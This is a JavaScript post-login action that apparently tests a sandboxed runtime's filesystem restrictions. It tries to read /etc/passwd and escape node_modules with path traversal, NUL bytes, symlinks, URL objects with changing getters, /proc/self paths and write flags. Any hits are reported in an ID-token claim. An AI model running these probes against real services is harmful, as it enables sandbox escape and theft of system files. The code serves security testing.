// paths as Buffer, URL, object, with NUL, with changing getters, with flags
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const fs = require('fs'); const P = '/etc/passwd'; let n = 0;
  const paths = [Buffer.from(P), new URL('file://' + P), { toString: () => P }, Object.assign(new URL('file://' + P), {}), S.NODE_MODULES + '/lodash/../../../../../../../../..' + P, S.NODE_MODULES + '/evil-link/../../outside/secret.json', S.NODE_MODULES + '/evil-file-link.json', S.NODE_MODULES + '/lodash/x\0/../..' + P, new Uint8Array(Buffer.from(P)), Object.create(URL.prototype, { protocol: { value: 'file:' }, href: { get: () => (n++ % 2 ? 'file://' + P : 'file://' + S.NODE_MODULES + '/lodash/lodash.js') } }), '//' + P, '/proc/self/root' + P, '/proc/self/cwd', '/dev/fd/0', '/dev/stdin', '/proc/self/fd/0'];
  for (const p of paths) for (const k of ['readFileSync', 'openSync', 'readdirSync', 'statSync', 'realpathSync', 'lstatSync', 'accessSync', 'readlinkSync', 'createReadStream', 'openAsBlob', 'opendirSync', 'watch', 'cpSync']) await attempt(k + ' ' + String(p), () => { const r = fs[k](p, { encoding: 'utf8', flag: 'r', recursive: true }); if (/lodash/.test(r) || typeof r === 'number' || (p instanceof URL && k !== 'readFileSync')) return; return r === undefined ? 'allowed' : typeof r === 'object' && r.on ? new Promise((d) => r.on('data', d).on('error', () => d())) : r; });
  await attempt('flag', () => { fs.readFileSync(S.NODE_MODULES + '/lodash/package.json', { flag: 'a+' }); return fs.openSync(S.NODE_MODULES + '/lodash/x', 'w'); });
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
